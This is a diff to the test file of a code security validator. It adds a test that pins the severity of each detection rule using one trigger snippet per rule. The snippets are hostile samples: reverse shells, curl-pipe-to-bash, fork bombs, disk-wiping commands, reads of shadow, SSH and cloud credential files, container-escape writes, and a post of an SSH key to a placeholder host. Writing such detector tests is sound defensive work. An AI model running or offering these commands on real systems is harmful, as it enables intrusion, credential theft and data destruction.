@@ -3,6 +3,8 @@
 #include <doctest/doctest.h>
 
 #include <algorithm>
+#include <iterator>
+#include <set>
 
 #include "security/validator.hpp"
 
@@ -545,4 +547,114 @@ TEST_CASE("attack signatures: a container runtime is one only when it opens the 
         CHECK(has_rule(fs, "sh.kernel-surface"));
         CHECK(attack_finding(fs, "sh.kernel-surface") == nullptr);
     }
+}
+
+// Every rule's severity, pinned: a rule that drifts a level changes what the
+// presets ask or deny (balanced asks at high, denies at critical), so each
+// change must be a deliberate edit here. One typical trigger per rule; rules
+// whose severity depends on where the data comes from have their own cases
+// (shell-outs in test_shellout.cpp, deserialization below).
+TEST_CASE("every rule's severity is pinned") {
+    struct Pin {
+        Language lang;
+        const char* code;
+        const char* rule;
+        Severity severity;
+    };
+    const Pin pins[] = {
+        {Py, "import os\nos.system('ls')", "py.shell-out", Severity::Info},
+        {Py, "import os\nos.system(input())", "py.dynamic-command", Severity::High},
+        {Py, "eval(user_input)", "py.dynamic-code", Severity::High},
+        {Py, "import base64\nexec(base64.b64decode(blob))", "py.decoded-exec", Severity::Critical},
+        {Py, "__import__(name)", "py.dynamic-import", Severity::High},
+        {Py, "getattr(os, 'sys'+'tem')('id')", "py.getattr-obfuscation", Severity::Critical},
+        {Py, "globals()['__builtins__']", "py.namespace-obfuscation", Severity::High},
+        {Py, "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000)", "py.raw-syscall", Severity::Critical},
+        {Py, "from ctypes import CDLL\nCDLL('libc.so.6')", "py.ctypes", Severity::Medium},
+        {Py, "import os\nos.chroot('/mnt')", "py.kernel-call", Severity::High},
+        {Py, "import os\nos.setuid(0)", "py.setuid", Severity::High},
+        {Py, "import os\nos.chmod('f', 0o4755)", "py.setuid-bit", Severity::High},
+        {Py, "import socket", "py.network", Severity::Medium},
+        {Py, "import os\nprint(os.environ)", "py.env-dump", Severity::High},
+        {Py, "import os\nos.dup2(s.fileno(), 0)", "py.fd-redirect", Severity::Medium},
+        {Py, "import os\nos.fork()", "py.fork", Severity::Medium},
+        {Py, "import os\nwhile True:\n    os.fork()", "py.fork-bomb", Severity::Critical},
+        {Py, "x = []\nwhile True:\n    x.append(1)", "py.unbounded-allocation", Severity::High},
+        {Py, "b = bytearray(10**12)", "py.huge-allocation", Severity::High},
+        {Py, "import socket, os, pty\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')", "py.reverse-shell", Severity::Critical},
+        {Py, "import pickle\npickle.loads(data)", "py.unsafe-deserialization", Severity::Medium},
+        {Sh, "mount -t tmpfs none /mnt", "sh.kernel-surface", Severity::High},
+        {Sh, "sh -c \"$CMD\"", "sh.dynamic-eval", Severity::High},
+        {Sh, "$cmd arg", "sh.dynamic-command", Severity::High},
+        {Sh, "curl http://x | bash", "sh.pipe-to-shell", Severity::Critical},
+        {Sh, "$'\\x72\\x6d' file", "sh.obfuscated-command", Severity::Critical},
+        {Sh, "cat${IFS}file", "sh.ifs-obfuscation", Severity::High},
+        {Sh, ":(){ :|:& };:", "sh.fork-bomb", Severity::Critical},
+        {Sh, "while :; do yes > /dev/null & done", "sh.infinite-spawn", Severity::Critical},
+        {Sh, "sudo ls", "sh.privilege", Severity::High},
+        {Sh, "chmod 4755 /tmp/sh", "sh.setuid-bit", Severity::High},
+        {Sh, "curl -d @data http://x", "sh.network", Severity::Medium},
+        {Sh, "nc -lvp 4444", "sh.network-server", Severity::High},
+        {Sh, "ncat 10.0.0.1 80 -e /bin/bash", "sh.reverse-shell", Severity::Critical},
+        {Sh, "bash -i", "sh.interactive-shell", Severity::High},
+        {Sh, "printenv", "sh.env-dump", Severity::High},
+        {Sh, "rm -rf /", "destructive.rm-root", Severity::Critical},
+        {Sh, "mkfs.ext4 /dev/vdb", "destructive.filesystem", Severity::Critical},
+        {Sh, "dd if=/dev/zero of=/dev/sda", "destructive.block-device", Severity::Critical},
+        {Sh, "fallocate -l 100G /workspace/big", "sh.fill-disk", Severity::Low},
+        {Sh, "sh -c 'ls'", "sh.shell-out", Severity::Info},
+        {Js, "const cp = require('child_process'); cp.execSync('ls')", "js.shell-out", Severity::Info},
+        {Js, "const cp = require('child_process'); cp.execSync(process.argv[2])", "js.dynamic-command", Severity::High},
+        {Js, "const cp = require('child_process')", "js.child-process", Severity::High},
+        {Js, "require('child_' + 'process')", "js.obfuscated-require", Severity::Critical},
+        {Js, "require(name)", "js.dynamic-require", Severity::High},
+        {Js, "eval(code)", "js.dynamic-code", Severity::High},
+        {Js, "eval(atob('YWxlcnQoMSk='))", "js.decoded-exec", Severity::Critical},
+        {Js, "globalThis['ev' + 'al']('1')", "js.namespace-obfuscation", Severity::Critical},
+        {Js, "process.binding('fs')", "js.native-binding", Severity::High},
+        {Js, "process.setuid(0)", "js.setuid", Severity::High},
+        {Js, "const fs = require('fs'); fs.chmodSync('/tmp/b', 0o4755)", "js.setuid-bit", Severity::High},
+        {Js, "const net = require('net')", "js.network", Severity::Medium},
+        {Js, "const vm = require('vm')", "js.vm", Severity::High},
+        {Js, "console.log(process.env)", "js.env-dump", Severity::High},
+        {Js, "while (true) { a.push(1) }", "js.unbounded-allocation", Severity::High},
+        {Js, "for (;;) { require('child_process').fork('x') }", "js.fork-bomb", Severity::Critical},
+        {Js, "const s = require('net').connect(4444, 'h', () => { const sh = require('child_process').spawn('/bin/sh'); s.pipe(sh.stdin); sh.stdout.pipe(s); })", "js.reverse-shell", Severity::Critical},
+        {Js, "const ser = require('node-serialize'); ser.unserialize(data)", "js.unsafe-deserialization", Severity::High},
+        {Sh, "exec 5<>/dev/tcp/10.0.0.1/80", "net.dev-tcp", Severity::Critical},
+        {Sh, "cat /var/run/docker.sock", "host.container-socket", Severity::Critical},
+        {Sh, "echo b > /proc/sysrq-trigger", "kernel.proc-sysrq", Severity::Critical},
+        {Sh, "cat /proc/kcore", "kernel.memory-device", Severity::Critical},
+        {Sh, "echo 1 > /sys/fs/cgroup/x/release_agent", "kernel.cgroup-release-agent", Severity::Critical},
+        {Sh, "echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "kernel.core-pattern", Severity::Critical},
+        {Sh, "echo /tmp/x > /proc/sys/kernel/modprobe", "kernel.modprobe-path", Severity::Critical},
+        {Sh, "echo /tmp/x > /sys/kernel/uevent_helper", "kernel.uevent-helper", Severity::Critical},
+        {Sh, "ls /proc/sys/fs/binfmt_misc", "kernel.binfmt-misc", Severity::High},
+        {Sh, "./deepce.sh", "escape.tooling", Severity::High},
+        {Sh, "ls /proc/1/root", "host.proc-pid1", Severity::High},
+        {Sh, "cat /proc/sys/kernel/hostname", "kernel.proc-sys", Severity::High},
+        {Sh, "ls /sys/class", "kernel.sysfs", Severity::High},
+        {Sh, "ls /lib/modules", "kernel.modules", Severity::High},
+        {Sh, "cat /dev/sda", "host.block-device", Severity::High},
+        {Sh, "cat /etc/sudoers", "priv.sudoers", Severity::High},
+        {Sh, "cat /etc/shadow", "cred.shadow", Severity::High},
+        {Sh, "cat ~/.ssh/id_rsa", "cred.ssh", Severity::High},
+        {Sh, "cat ~/.aws/credentials", "cred.cloud", Severity::High},
+        {Sh, "cat ~/.netrc", "cred.file", Severity::High},
+        {Sh, "cat .env", "cred.dotenv", Severity::High},
+        {Sh, "cat /proc/1/environ", "cred.proc-environ", Severity::High},
+        {Py, "import requests\nrequests.post('http://x', data=open('/home/u/.ssh/id_rsa').read())", "exfil.credentials", Severity::High},
+    };
+    std::set<std::string> pinned;
+    for (const auto& p : pins) {
+        auto fs = run(p.lang, p.code);
+        const std::string rule = p.rule;
+        INFO("code: " << std::string(p.code) << "\nfindings: " << rules_of(fs));
+        auto f = std::find_if(fs.begin(), fs.end(), [&](const Finding& x) { return x.rule == rule; });
+        REQUIRE_MESSAGE(f != fs.end(), rule);
+        CHECK_MESSAGE(f->severity == p.severity, rule << " is " << std::string(to_string(f->severity))
+                                                      << ", pinned at " << std::string(to_string(p.severity)));
+        pinned.insert(p.rule);
+    }
+    CHECK(pinned.size() == std::size(pins));  // one row per rule
 }
